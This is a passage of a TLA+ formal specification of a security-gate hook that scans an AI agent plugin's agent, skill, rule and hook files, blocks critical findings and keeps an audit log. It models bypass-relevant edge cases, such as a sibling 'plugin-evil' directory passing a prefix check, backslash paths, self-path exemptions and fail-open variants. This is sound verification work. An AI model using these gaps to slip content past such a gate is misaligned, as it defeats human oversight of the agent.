    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"
    /\ GateIdle

SpecExcerpt == ExcerptInit /\ [][Scan]_vars

(***************************************************************************)
(* SpecTools: one call of scanContent on documents whose front-matter      *)
(* block lists tools, inline or one per line.                              *)
(***************************************************************************)
ItemLines == <<L_itRead, L_itWrite, L_itEdit, L_itBash, L_itGrep, L_itGlob>>

Reverse(q) == [i \in 1..Len(q) |-> q[Len(q) + 1 - i]]

Without(q, n) == SubSeq(q, 1, n - 1) \o SubSeq(q, n + 1, Len(q))

\* the lines that list the tools in a front-matter block (<<>>: none are listed)
ToolLists ==
    { <<>>, <<L_tools>>, <<L_tools6>>, <<L_tools6r>>, <<L_tools5>>,
      <<L_tools>> \o ItemLines,
      <<L_tools>> \o Reverse(ItemLines),
      <<L_tools>> \o ItemLines \o <<L_itRead>> }
    \cup {<<L_tools>> \o Without(ItemLines, n) : n \in 1..Len(ItemLines)}
    \cup {<<L_tools>> \o Without(ItemLines, n) \o <<L_itRead>> : n \in 2..Len(ItemLines)}

ToolContents ==
    {<<L_dashes, name>> \o tools \o <<model, L_dashes, L_plain>> :
        name \in {L_nameE2e, L_nameSec, L_nameList}, tools \in ToolLists,
        model \in {L_opus, L_haiku}}
    \cup {<<L_plain>>, <<L_plain, L_tools6>>}

ToolsInit ==
    /\ scanIn \in [content : ToolContents,
                   contentType : {"agent", "skill"},
                   config : {DefaultConfig,
                             [DefaultConfig EXCEPT !.allowedPatterns = {"MED-004"}]}]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"
    /\ GateIdle

SpecTools == ToolsInit /\ [][Scan]_vars

(***************************************************************************)
(* SpecRescan: one process scans a content, possibly other contents, and   *)
(* then the first content again; or a new process scans it again.          *)
(***************************************************************************)
RescanConfigs ==
    {DefaultConfig, [DefaultConfig EXCEPT !.allowedPatterns = {"CRIT-003", "MED-004"}]}

\* what the process scans in between
OtherScans ==
    {[content |-> c, contentType |-> t] :
        c \in {<<L_fetch>>, <<L_skip, L_force>>}, t \in {"agent", "hook-script"}}

\* the contents scanned twice: lines that regex rules match, with or without
\* a front-matter block
RescanContents ==
    {f \o b : f \in {<<>>, <<L_dashes, L_nameSec, L_haiku, L_dashes>>},
              b \in SeqsUpTo({L_skip, L_force, L_evil, L_fetch, L_local}, MaxBody) \ {<<>>}}

RescanInit ==
    /\ scanIn \in [content : RescanContents, contentType : ContentTypes,
                   config : RescanConfigs]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"
    /\ GateIdle

ScanOther ==
    /\ scanOut.done
    /\ ~rescan.done
    /\ rescan.others < MaxOthers
    /\ \E o \in OtherScans :
        rescan' = [rescan EXCEPT
                      !.regex = scanContentIn(@, o.content, o.contentType,
                                              scanIn.config).adv,
                      !.others = @ + 1]
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, auditLog,
                   proc, nruns, running>>

\* the same process (its regex objects as they are) or a new one scans
\* scanIn again
Rescan ==
    /\ scanOut.done
    /\ ~rescan.done
    /\ \E adv \in {rescan.regex, FreshRegexes} :
        LET r == scanContentIn(adv, scanIn.content, scanIn.contentType, scanIn.config)
        IN rescan' = [rescan EXCEPT !.done = TRUE, !.threw = r.threw,
                                    !.findings = r.findings, !.regex = r.adv]
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, auditLog,
                   proc, nruns, running>>

SpecRescan == RescanInit /\ [][Scan \/ ScanOther \/ Rescan]_vars

(***************************************************************************)
(* SpecDecide: one call of getAction.                                      *)
(***************************************************************************)
DecideInit ==
    /\ decIn \in [findings : SeqsUpTo(SampleFindings, MaxFindings),
                  config : DecideConfigs]
    /\ decOut = "none"
    /\ scanIn = [content |-> <<L_empty>>, contentType |-> "unknown",
                 config |-> DefaultConfig]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ GateIdle

Decide ==
    /\ decOut = "none"
    /\ decOut' = getAction(decIn.findings, decIn.config)
    /\ UNCHANGED <<scanIn, scanOut, decIn, configFile, logWritable, auditLog, proc, nruns,
                   rescan, running>>

SpecDecide == DecideInit /\ [][Decide]_vars

(***************************************************************************)
(* Paths.  A path is [inRoot, segs]: segs are its segments, the last one   *)
(* the file name; inRoot says the segments are relative to PLUGIN_DIR (the *)
(* file lies in the installation root).  PLUGIN_DIR itself is taken to     *)
(* have no segment named like a protected directory.                       *)
(***************************************************************************)
PROTECTED_DIRS == <<"agents", "skills", "commands", "rules", "hooks", "scripts">>

SELF_PATHS ==
    { <<"scripts", "hooks", "security-gate.js">>,
      <<"scripts", "lib", "security-patterns.js">>,
      <<"scripts", "config", "security-gate-config.json">>,
      <<"commands", "security-scan.md">>,
      <<"rules", "plugin-security.md">> }

InRoot(segs) == [inRoot |-> TRUE, segs |-> segs]
Outside(segs) == [inRoot |-> FALSE, segs |-> segs]

\* file_path absent or ''
NoPath == Outside(<<>>)

\* the extension a segment ends with, as written
Ext(seg) ==
    CASE seg \in {"reviewer.md", "Reviewer.md", "security-scan.md", "SKILL.md",
                  "skill.md", "readme.md", "evil.md", "plugin-security.md",
                  "style.md", "broken.md", "locked.md"} -> "md"
      [] seg \in {"security-gate.js", "security-patterns.js", "guard.js",
                  "utils.js"} -> "js"
      [] seg \in {"hooks.json", "security-gate-config.json"} -> "json"
      [] seg = "notes.txt" -> "txt"
      [] seg = "README.MD" -> "MD"
      [] OTHER -> ""

Lowered(segs) == [i \in 1..Len(segs) |-> ToLower(segs[i])]

Last(q) == q[Len(q)]

\* the directory the file is in ("" for a file given without directory)
Parent(q) == IF Len(q) >= 2 THEN q[Len(q) - 1] ELSE ""

detectContentType(path) ==
    LET n == Lowered(path.segs)
    IN IF n = <<>> THEN "unknown"
       ELSE IF Parent(n) = "agents" /\ Ext(Last(n)) = "md" THEN "agent"
       ELSE IF (\E i \in 1..(Len(n) - 1) : n[i] = "skills") /\ Ext(Last(n)) = "md"
       THEN "skill"
       ELSE IF Parent(n) = "commands" /\ Ext(Last(n)) = "md" THEN "command"
       ELSE IF Parent(n) = "rules" /\ Ext(Last(n)) = "md" THEN "rule"
       ELSE IF Parent(n) = "hooks" /\ Last(n) = "hooks.json" THEN "hook-config"
       ELSE IF /\ Len(n) >= 3
               /\ n[Len(n) - 2] = "scripts"
               /\ Parent(n) = "hooks"
               /\ Ext(Last(n)) = "js"
       THEN "hook-script"
       ELSE "unknown"

(***************************************************************************)
(* A path as it is written: the names between its separators and the       *)
(* separators, each a forward slash or a backslash.                        *)
(***************************************************************************)
Written(names, seps) == [names |-> names, seps |-> seps]

\* variant of replaceBackslashes: the separators stay as written
replaceBackslashes_none(w) == w

\* line 303: filePath.replace(/\\/g, '/')
replaceBackslashes(w) == [w EXCEPT !.seps = [i \in 1..Len(w.seps) |-> "/"]]

\* line 303: .toLowerCase()
toLowerCase(w) == [w EXCEPT !.names = Lowered(w.names)]

\* the segments the patterns of lines 305-310 see, which only split at forward
\* slashes: names joined by a backslash make one segment
RECURSIVE SlashSegs(_, _)
SlashSegs(names, seps) ==
    IF Len(names) <= 1 THEN names
    ELSE LET rest == SlashSegs(Tail(names), Tail(seps))
         IN IF Head(seps) = "/" THEN <<Head(names)>> \o rest
            ELSE <<Head(names) \o "\\" \o Head(rest)>> \o Tail(rest)

\* detectContentType of a path as written
detectWritten(w) ==
    LET normalized == toLowerCase(replaceBackslashes(w))
    IN detectContentType(Outside(SlashSegs(normalized.names, normalized.seps)))

\* variant of IsProtected: every path counts as protected
IsProtected_any(path) == TRUE

\* PROTECTED_DIRS.some(dir => /(?:^|[/])dir[/]/i.test(normalizedPath))
IsProtected(path) ==
    \E d \in 1..Len(PROTECTED_DIRS) :
        \E i \in 1..(Len(path.segs) - 1) : ToLower(path.segs[i]) = PROTECTED_DIRS[d]

\* path.relative(PLUGIN_DIR, path.resolve(filePath)), as segments
RelativePath(path) == IF path.inRoot THEN path.segs ELSE <<"..">> \o path.segs

\* variant of IsSelfPath: compares file names instead of relative paths
IsSelfPath_byName(path) ==
    path.segs # <<>> /\ \E q \in SELF_PATHS : Last(q) = Last(path.segs)

\* SELF_PATHS.includes(relativePath), lines 162-165 and 302-303
IsSelfPath(path) == RelativePath(path) \in SELF_PATHS

(***************************************************************************)
(* Configuration file and audit log.                                       *)
(***************************************************************************)
\* the file is absent or unreadable ("missing"), not JSON ("garbage"), or JSON
loadConfig(file) == IF file.kind = "json" THEN file.value ELSE DefaultConfig

\* loadConfig took its catch branch
ConfigDefaulted(file) == file.kind # "json"

\* PLUGIN_DIR, an absolute path, as its segments
PLUGIN_DIR == <<"opt", "plugin">>

\* the segments of a path written in the configuration or on the command
\* line; "/" is the leading separator of an absolute path
PathSegs(s) ==
    CASE s = "logs/security-audit.jsonl"  -> <<"logs", "security-audit.jsonl">>
      [] s = "../outside/audit.jsonl"     -> <<"..", "outside", "audit.jsonl">>
      [] s = "../plugin-evil/audit.jsonl" -> <<"..", "plugin-evil", "audit.jsonl">>
      [] s = "/tmp/audit.jsonl"           -> <<"/", "tmp", "audit.jsonl">>
      [] OTHER                            -> <<>>

\* path.resolve(base, rel) and path.join(base, rel), on segments
RECURSIVE Resolve(_, _)
Resolve(base, segs) ==
    IF segs = <<>> THEN base
    ELSE IF Head(segs) = "/" THEN Resolve(<<>>, Tail(segs))
    ELSE IF Head(segs) = ".."
    THEN Resolve(IF base = <<>> THEN <<>> ELSE SubSeq(base, 1, Len(base) - 1),
                 Tail(segs))
    ELSE Resolve(Append(base, Head(segs)), Tail(segs))

\* String.prototype.startsWith between two path segments
SegStartsWith(a, b) == a = b \/ (a = "plugin-evil" /\ b = "plugin")

\* abs.startsWith(PLUGIN_DIR), a comparison of the two path strings: the
\* segment of abs at the depth of the root need only begin with the root's name
StartsWithRoot(abs) ==
    /\ Len(abs) >= Len(PLUGIN_DIR)
    /\ SubSeq(abs, 1, Len(PLUGIN_DIR) - 1) = SubSeq(PLUGIN_DIR, 1, Len(PLUGIN_DIR) - 1)
    /\ SegStartsWith(abs[Len(PLUGIN_DIR)], PLUGIN_DIR[Len(PLUGIN_DIR)])

\* lines 85-93: the file writeAuditLog appends to, for a config that is not null
LogPath(config) ==
    LET name == IF Has(config, "auditLogPath") /\ config.auditLogPath # ""
                THEN config.auditLogPath ELSE "logs/security-audit.jsonl"
        logPath == Resolve(PLUGIN_DIR, PathSegs(name))
    IN IF ~StartsWithRoot(logPath)
       THEN Resolve(PLUGIN_DIR, <<"logs", "security-audit.jsonl">>)
       ELSE logPath

\* the try block of writeAuditLog completes: config.auditLogPath does not raise
\* and appendFileSync succeeds
AuditSucceeds(config, writable) == ~IsNull(config) /\ writable

\* variant of AuditEscapes: a failure of the append leaves writeAuditLog
AuditEscapes_uncaught(config, writable) == ~AuditSucceeds(config, writable)

\* lines 108-110: the catch block of writeAuditLog reports the failure and
\* returns, so no exception reaches the caller
AuditEscapes(config, writable) == FALSE

\* variant of appendFileSync: the file is rewritten with the new line only
appendFileSync_rewrite(log, line) == <<line>>

\* line 107: fs.appendFileSync(logPath, line) as one atomic append
appendFileSync(log, line) == Append(log, line)

\* the log after writeAuditLog(config, entry): the lines appended so far, each
\* with the file it was appended to; the time stamp is a logical clock
writeAuditLog(config, entry, writable, log, clock) ==
    IF AuditSucceeds(config, writable)
    THEN appendFileSync(log, [timestamp |-> clock, entry |-> entry,
                              path |-> LogPath(config)])
    ELSE log

(***************************************************************************)
(* Hook mode (PreToolUse): the 'end' handler of runHookMode.               *)
(* An event is the text on stdin: not JSON ("garbage"), the JSON value     *)
(* null ("null"), or an object with tool, tool_input.file_path,            *)
(* tool_input.content and tool_input.new_string.  A text is the sequence   *)
(* of its lines; Absent is an undefined field.                             *)
(***************************************************************************)
Absent == <<>>
EmptyText == <<L_empty>>

\* JavaScript truthiness of a text field
Truthy(text) == text # Absent /\ text # EmptyText

\* lines 125-138: what the handler decides to scan
ContentToScan(event) ==
    IF Truthy(event.content) THEN event.content
    ELSE IF Truthy(event.new_string) THEN event.new_string
    ELSE EmptyText

Count(findings, sev) == Len(SelectSeq(findings, LAMBDA f : f.severity = sev))

\* what one hook process did; log is the audit log it leaves
HookStart(log) ==
    [exit |-> 0, reemitted |-> FALSE, stderr |-> {}, configLoaded |-> FALSE,
     scanned |-> FALSE, contentToScan |-> EmptyText, contentType |-> "",
     findings |-> <<>>, action |-> "", error |-> FALSE, log |-> log]

\* console.log(data); return
Passthrough(st) == [st EXCEPT !.reemitted = TRUE]

\* variant of HookCatch: fails open, the event is always re-emitted
HookCatch_open(st) ==
    [st EXCEPT !.error = TRUE, !.reemitted = TRUE, !.stderr = @ \cup {"ERROR"}]

\* the catch block, lines 255-266
HookCatch(st) ==
    IF Truthy(st.contentToScan)
    THEN [st EXCEPT !.error = TRUE, !.exit = 2,
                    !.stderr = @ \cup {"ERROR", "BLOCKED-ERROR"}]
    ELSE [st EXCEPT !.error = TRUE, !.reemitted = TRUE,
                    !.stderr = @ \cup {"ERROR"}]

\* lines 186-254: the report and the exit
HookReport(st) ==
    IF Len(st.findings) = 0 THEN Passthrough(st)
    ELSE IF Count(st.findings, "CRITICAL") > 0
    THEN [st EXCEPT !.exit = 2, !.stderr = @ \cup {"BLOCKED"}]
    ELSE [st EXCEPT !.reemitted = TRUE,
                    !.stderr = @ \cup (IF Count(st.findings, "HIGH") > 0
                                       THEN {"WARNING"}
                                       ELSE IF Count(st.findings, "MEDIUM") > 0
                                       THEN {"INFO"} ELSE {})]

HookEntry(event, st) ==
    [event |-> IF st.action = "BLOCK" THEN "block" ELSE "scan",
     trigger |-> "PreToolUse",
     tool |-> event.tool,
     targetFile |-> event.file_path,
     contentType |-> st.contentType,
     findings |-> st.findings,
     action |-> st.action]

\* lines 170-184: load the config, classify, scan, decide, audit
HookScan(event, st, file, writable, clock) ==
    LET config == loadConfig(file)
        type == detectContentType(event.file_path)
        s1 == [st EXCEPT !.configLoaded = TRUE, !.scanned = TRUE,
                         !.contentType = type,
                         !.stderr = IF ConfigDefaulted(file)
                                    THEN {"CONFIG-WARNING"} ELSE {}]
        Decided(r, action) ==
            LET s2 == [s1 EXCEPT !.findings = r.findings, !.action = action]
                s3 == [s2 EXCEPT !.log = writeAuditLog(config, HookEntry(event, s2),
                                                       writable, st.log, clock),
                                 !.stderr = IF AuditSucceeds(config, writable)
                                            THEN @ ELSE @ \cup {"AUDIT-FAILED"}]
            IN IF r.threw \/ action = "TypeError" THEN HookCatch(s1)
               ELSE IF AuditEscapes(config, writable) THEN HookCatch(s2)
               ELSE HookReport(s3)
    IN The({ The({ Decided(r, action) : action \in {getAction(r.findings, config)} })
                : r \in {scanContent(st.contentToScan, type, config)} })

runHookMode(event, file, writable, log, clock) ==
    IF event.kind # "object" THEN HookCatch(HookStart(log))
    ELSE LET st == [HookStart(log) EXCEPT !.contentToScan = ContentToScan(event)]
         IN IF ~Truthy(st.contentToScan) \/ event.file_path = NoPath
            THEN Passthrough(st)
            ELSE IF ~IsProtected(event.file_path) THEN Passthrough(st)
            ELSE IF IsSelfPath(event.file_path) THEN Passthrough(st)
            ELSE HookScan(event, st, file, writable, clock)

(***************************************************************************)
(* The files of the installation root, in the order walkDir meets them,    *)
(* and one file of a directory next to the root; paths are relative to the *)
(* root.                                                                   *)
(***************************************************************************)
File(segs, content, readable) ==
    [segs |-> segs, content |-> content, readable |-> readable]

FileSystem ==
    << File(<<"agents", "README.MD">>, <<L_skip>>, TRUE),
       File(<<"agents", "broken.md">>, <<L_dashes, L_nameNone, L_haiku, L_dashes>>, TRUE),
       File(<<"agents", "locked.md">>, <<L_skip>>, FALSE),
       File(<<"agents", "reviewer.md">>, <<L_plain>>, TRUE),
       File(<<"agents", "security-scan.md">>, <<L_skip>>, TRUE),
       File(<<"skills", "demo", "SKILL.md">>, <<L_force>>, TRUE),
       File(<<"skills", "node_modules", "pkg", "readme.md">>, <<L_skip>>, TRUE),
       File(<<"commands", "security-scan.md">>, <<L_skip>>, TRUE),
       File(<<"rules", "notes.txt">>, <<L_skip>>, TRUE),
       File(<<"rules", "style.md">>, <<L_evil>>, TRUE),
       File(<<"hooks", "hooks.json">>, <<L_fetch>>, TRUE),
       File(<<"scripts", "hooks", "guard.js">>, <<L_local>>, TRUE),
       File(<<"scripts", "hooks", "security-gate.js">>, <<L_fetch>>, TRUE),
       File(<<"scripts", "lib", "utils.js">>, <<L_fetch>>, TRUE),
       File(<<"docs", "readme.md">>, <<L_skip>>, TRUE),
       File(<<"..", "plugin-evil", "agents", "evil.md">>, <<L_skip>>, TRUE) >>

IsPrefix(dir, segs) == Len(segs) > Len(dir) /\ SubSeq(segs, 1, Len(dir)) = dir

\* fs.existsSync on a directory or a file of the root
Exists(segs) ==
    \E i \in 1..Len(FileSystem) :
        FileSystem[i].segs = segs \/ IsPrefix(segs, FileSystem[i].segs)

\* a directory below dir on the way to the file is node_modules or .git
InSkippedDir(dir, segs) ==
    \E i \in (Len(dir) + 1)..(Len(segs) - 1) : segs[i] \in {"node_modules", ".git"}

walkDir(dir) ==
    SelectSeq(FileSystem, LAMBDA f : IsPrefix(dir, f.segs) /\ ~InSkippedDir(dir, f.segs))

RECURSIVE Flatten(_)
Flatten(qs) == IF qs = <<>> THEN <<>> ELSE Head(qs) \o Flatten(Tail(qs))

(***************************************************************************)
(* Scan mode (--scan [directory]).  A directory argument is none, a        *)
(* directory of the root ("in") or one that resolves outside the root.     *)
(***************************************************************************)
NoDir == [kind |-> "none", segs |-> <<>>]
DirIn(segs) == [kind |-> "in", segs |-> segs]
DirOutside == [kind |-> "outside", segs |-> <<"..">>]
DirSibling == [kind |-> "outside", segs |-> <<"..", "plugin-evil">>]

\* lines 276-279: !scanRoot.startsWith(PLUGIN_DIR)
RejectsRoot(targetDir) ==
    /\ targetDir.kind # "none"
    /\ ~StartsWithRoot(Resolve(PLUGIN_DIR, targetDir.segs))

\* lines 286-288
DirsToScan(targetDir) ==
    IF targetDir.kind = "none"
    THEN [d \in 1..Len(PROTECTED_DIRS) |-> <<PROTECTED_DIRS[d]>>]
    ELSE <<targetDir.segs>>

\* the files the two loops of lines 293-297 visit, in order
FilesToVisit(targetDir) ==
    LET dirs == DirsToScan(targetDir)
    IN Flatten([d \in 1..Len(dirs) |->
                   IF Exists(dirs[d]) THEN walkDir(dirs[d]) ELSE <<>>])

\* line 299: only .md, .js, .json
HasScannedExt(segs) == Ext(Last(segs)) \in {"md", "js", "json"}

Tagged(findings, segs) ==
    [i \in 1..Len(findings) |->
        [severity |-> findings[i].severity, id |-> findings[i].id,
         line |-> findings[i].line, match |-> findings[i].match, file |-> segs]]

\* variant of catchScanError: the file that failed is not counted
catchScanError_uncounted(counted) ==
    [counted EXCEPT !.totalFiles = @ - 1, !.stderr = @ \cup {"SCAN-ERROR"}]

\* lines 318-320: the catch block of the loop reports the error and the loop
\* goes on with the next file
catchScanError(counted) == [counted EXCEPT !.stderr = @ \cup {"SCAN-ERROR"}]

\* lines 298-321: the body of the loop for one file
ScanFile(acc, f, config) ==
    IF ~HasScannedExt(f.segs) THEN acc
    ELSE IF IsSelfPath(InRoot(f.segs)) THEN acc
    ELSE LET counted == [acc EXCEPT !.totalFiles = @ + 1]
             type == detectContentType(InRoot(f.segs))
             Scanned(r) ==
                IF r.threw
                THEN catchScanError([counted EXCEPT !.scannedFiles = Append(@, f.segs),
                                                    !.regex = r.adv])
                ELSE [counted EXCEPT !.scannedFiles = Append(@, f.segs),
                                     !.allFindings = @ \o Tagged(r.findings, f.segs),
                                     !.regex = r.adv]
         IN IF ~f.readable THEN catchScanError(counted)
            ELSE IF type = "unknown" THEN counted
            ELSE The({ Scanned(r) :
                        r \in {scanContentIn(acc.regex, f.content, type, config)} })

\* the loop of lines 297-322 over the files; acc.visited is its position
RECURSIVE ScanFiles(_, _, _)
ScanFiles(acc, files, config) ==
    The({ IF a.visited >= Len(files) THEN a
          ELSE ScanFiles([ScanFile(a, files[a.visited + 1], config)
                              EXCEPT !.visited = @ + 1],
                         files, config)
          : a \in {acc} })

\* variant of ScanStatus: looks for HIGH findings before CRITICAL ones
ScanStatus_highFirst(allFindings) ==
    IF Len(allFindings) = 0 THEN "CLEAN"
    ELSE IF Count(allFindings, "HIGH") > 0 THEN "REVIEW REQUIRED"
    ELSE IF Count(allFindings, "CRITICAL") > 0 THEN "CRITICAL ISSUES FOUND"
    ELSE "ACCEPTABLE"

\* lines 377-385
ScanStatus(allFindings) ==
    IF Len(allFindings) = 0 THEN "CLEAN"
    ELSE IF Count(allFindings, "CRITICAL") > 0 THEN "CRITICAL ISSUES FOUND"
    ELSE IF Count(allFindings, "HIGH") > 0 THEN "REVIEW REQUIRED"
    ELSE "ACCEPTABLE"

\* variant of ScanExit: any finding fails the run
ScanExit_anyFinding(allFindings) == IF Len(allFindings) > 0 THEN 1 ELSE 0

\* line 390
ScanExit(allFindings) == IF Count(allFindings, "CRITICAL") > 0 THEN 1 ELSE 0

ScanEntry(acc) ==
    [event |-> "full-scan", trigger |-> "manual", totalFiles |-> acc.totalFiles,
     totalFindings |-> Len(acc.allFindings), findings |-> acc.allFindings]

runScanMode(targetDir, file, writable, log, clock) ==
    LET config == loadConfig(file)
        start == [exit |-> 0, status |-> "", rejected |-> FALSE, totalFiles |-> 0,
                  allFindings |-> <<>>, scannedFiles |-> <<>>, regex |-> FreshRegexes,
                  visited |-> 0,
                  stderr |-> IF ConfigDefaulted(file) THEN {"CONFIG-WARNING"} ELSE {},
                  log |-> log]
        Report(acc) ==
            IF AuditEscapes(config, writable)
            THEN [acc EXCEPT !.exit = 1, !.stderr = @ \cup {"UNCAUGHT"}]
            ELSE [acc EXCEPT !.exit = ScanExit(acc.allFindings),
                             !.status = ScanStatus(acc.allFindings),
                             !.log = writeAuditLog(config, ScanEntry(acc), writable,
                                                   log, clock),
                             !.stderr = IF AuditSucceeds(config, writable)
                                        THEN @ ELSE @ \cup {"AUDIT-FAILED"}]
    IN IF RejectsRoot(targetDir)
       THEN [start EXCEPT !.exit = 1, !.rejected = TRUE, !.stderr = @ \cup {"ERROR"}]
       ELSE The({ Report(acc) :
                    acc \in {ScanFiles(start, FilesToVisit(targetDir), config)} })

(***************************************************************************)
(* Check-path mode (--check-path <file>), for files of the root.           *)
(***************************************************************************)
FileAt(segs) ==
    FileSystem[CHOOSE i \in 1..Len(FileSystem) : FileSystem[i].segs = segs]

CheckEntry(segs, type, findings, action) ==
    [event |-> "check-path", trigger |-> "PostToolUse-Bash",
     targetFile |-> InRoot(segs), contentType |-> type,
     findings |-> findings, action |-> action]

\* variant of CheckExit: CRITICAL findings end the check with the block status
CheckExit_blocking(findings) == IF Count(findings, "CRITICAL") > 0 THEN 2 ELSE 0

\* line 455: process.exit(0) after the report
CheckExit(findings) == 0

runCheckPathMode(segs, file, writable, log, clock) ==
    LET config == loadConfig(file)
        start == [exit |-> 0, report |-> "", scanned |-> FALSE, contentType |-> "",
                  findings |-> <<>>,
                  stderr |-> IF ConfigDefaulted(file) THEN {"CONFIG-WARNING"} ELSE {},
                  log |-> log]
        f == FileAt(segs)
        type == detectContentType(InRoot(segs))
        failed == [start EXCEPT !.report = "FAILED", !.stderr = @ \cup {"CHECK-FAILED"}]
        Checked(r, action) ==
            IF r.threw \/ action = "TypeError" \/ AuditEscapes(config, writable)
            THEN [failed EXCEPT !.scanned = TRUE, !.contentType = type]
            ELSE [start EXCEPT
                    !.scanned = TRUE, !.contentType = type, !.findings = r.findings,
                    !.exit = CheckExit(r.findings),
                    !.log = writeAuditLog(config,
                                          CheckEntry(segs, type, r.findings, action),
                                          writable, log, clock),
                    !.stderr = IF AuditSucceeds(config, writable)
                               THEN @ ELSE @ \cup {"AUDIT-FAILED"},
                    !.report = IF Len(r.findings) = 0 THEN "CLEAN"
                               ELSE IF Count(r.findings, "CRITICAL") > 0 THEN "ALERT"
                               ELSE "LIST"]
    IN IF ~Exists(segs) THEN [start EXCEPT !.report = "NOT-FOUND"]
       ELSE IF ~f.readable THEN failed
       ELSE IF type = "unknown"
       THEN [start EXCEPT !.report = "SKIPPED", !.contentType = type]
       ELSE The({ The({ Checked(r, action) :
                            action \in {getAction(r.findings, config)} })
                    : r \in {scanContent(f.content, type, config)} })

(***************************************************************************)
(* Spec: gate processes run one after the other against one configuration  *)
(* file and one audit log.  Each process runs to completion in one step.   *)
(***************************************************************************)
HookPaths ==
    { InRoot(<<"agents", "reviewer.md">>),
      InRoot(<<"agents", "security-scan.md">>),
      InRoot(<<"commands", "security-scan.md">>),
      InRoot(<<"skills", "demo", "SKILL.md">>),
      InRoot(<<"scripts", "hooks", "guard.js">>),
      InRoot(<<"scripts", "lib", "utils.js">>),
      InRoot(<<"hooks", "hooks.json">>),
      InRoot(<<"docs", "readme.md">>),
      Outside(<<"agents", "evil.md">>),
      NoPath }

HookTexts ==
    { <<L_plain>>,
      <<L_skip, L_force>>,
      <<L_force>>,
      <<L_evil>>,
      <<L_fetch>>,
      <<L_dashes, L_nameNone, L_haiku, L_dashes>> }

ObjectEvent(path, content, new_string) ==
    [kind |-> "object", tool |-> "Write", file_path |-> path,
     content |-> content, new_string |-> new_string]

HookEvents ==
    {ObjectEvent(p, c, Absent) : p \in HookPaths, c \in HookTexts \cup {Absent, EmptyText}}
    \cup {ObjectEvent(p, c, <<L_skip>>) : p \in HookPaths, c \in {Absent, EmptyText}}
    \cup {[kind |-> k, tool |-> "", file_path |-> NoPath, content |-> Absent,
           new_string |-> Absent] : k \in {"garbage", "null"}}

ConfigValues ==
    { NullConfig,
      [auditLogPath |-> "logs/security-audit.jsonl"],
      [blockOnSeverity |-> "HIGH", warnOnSeverity |-> "MEDIUM"],
      [blockOnSeverity |-> "LOW", warnOnSeverity |-> "LOW"],
      [DefaultConfig EXCEPT !.allowedPatterns = {"CRIT-003"}],
      [DefaultConfig EXCEPT !.auditLogPath = "../outside/audit.jsonl"],
      [DefaultConfig EXCEPT !.auditLogPath = "/tmp/audit.jsonl"],
      [DefaultConfig EXCEPT !.auditLogPath = "../plugin-evil/audit.jsonl"] }

ConfigFiles ==
    {[kind |-> k] : k \in {"missing", "garbage"}}
    \cup {[kind |-> "json", value |-> v] : v \in ConfigValues}

ScanDirs ==
    {NoDir, DirOutside, DirSibling}
    \cup {DirIn(<<d>>) : d \in {"agents", "skills", "rules", "scripts", "docs", "absent"}}

CheckPaths ==
    { <<"agents", "reviewer.md">>, <<"agents", "security-scan.md">>,
      <<"agents", "broken.md">>, <<"agents", "locked.md">>,
      <<"skills", "demo", "SKILL.md">>, <<"scripts", "lib", "utils.js">>,
      <<"agents", "absent.md">> }

Init ==
    /\ configFile \in ConfigFiles
    /\ logWritable \in BOOLEAN
    /\ auditLog = <<>>
    /\ proc = IdleProc
    /\ nruns = 0
    /\ scanIn = [content |-> <<L_empty>>, contentType |-> "unknown",
                 config |-> DefaultConfig]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ running = NoneRunning
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"

Intercept ==
    /\ nruns < MaxRuns
    /\ \E event \in HookEvents :
        \E out \in {runHookMode(event, configFile, logWritable, auditLog, nruns + 1)} :
           /\ proc' = [mode |-> "hook", event |-> event, logBefore |-> auditLog,
                       out |-> out]
           /\ auditLog' = out.log
    /\ nruns' = nruns + 1
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, rescan,
                   running>>

FullScan ==
    /\ nruns < MaxRuns
    /\ \E targetDir \in ScanDirs :
        \E out \in {runScanMode(targetDir, configFile, logWritable, auditLog, nruns + 1)} :
           /\ proc' = [mode |-> "scan", targetDir |-> targetDir,
                       logBefore |-> auditLog, out |-> out]
           /\ auditLog' = out.log
    /\ nruns' = nruns + 1
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, rescan,
                   running>>

CheckPath ==
    /\ nruns < MaxRuns
    /\ \E segs \in CheckPaths :
        \E out \in {runCheckPathMode(segs, configFile, logWritable, auditLog, nruns + 1)} :
           /\ proc' = [mode |-> "check", segs |-> segs, logBefore |-> auditLog,
                       out |-> out]
           /\ auditLog' = out.log
    /\ nruns' = nruns + 1
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, rescan,
                   running>>

Next == Intercept \/ FullScan \/ CheckPath

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* SpecConc: gate processes run side by side against one configuration     *)
(* file and one audit log.  A process runs up to the line it hands to      *)
(* appendFileSync in one step (nothing before it reads or writes shared    *)
(* state) and appends it in a second step; appendFileSync is one atomic    *)
(* append, which fails for every process when the log is not writable.     *)
(***************************************************************************)
Procs == 1..MaxProcs

NotStarted == [pc |-> "idle", mode |-> "none", clock |-> 0, lines |-> <<>>,
               appended |-> FALSE]

\* the process has built the lines it appends (none: it ends without an
\* audit entry)
Started(mode, clock, lines) ==
    [pc |-> IF lines = <<>> THEN "done" ELSE "append", mode |-> mode,
     clock |-> clock, lines |-> lines, appended |-> FALSE]

ConcConfigFiles ==
    {[kind |-> "missing"], [kind |-> "json", value |-> DefaultConfig]}

ConcEvents ==
    { ObjectEvent(InRoot(<<"agents", "reviewer.md">>), <<L_plain>>, Absent),
      ObjectEvent(InRoot(<<"agents", "reviewer.md">>), <<L_skip, L_force>>, Absent),
      ObjectEvent(InRoot(<<"docs", "readme.md">>), <<L_plain>>, Absent) }

ConcDirs == {NoDir, DirIn(<<"rules">>), DirOutside}

ConcPaths ==
    { <<"agents", "reviewer.md">>, <<"skills", "demo", "SKILL.md">>,
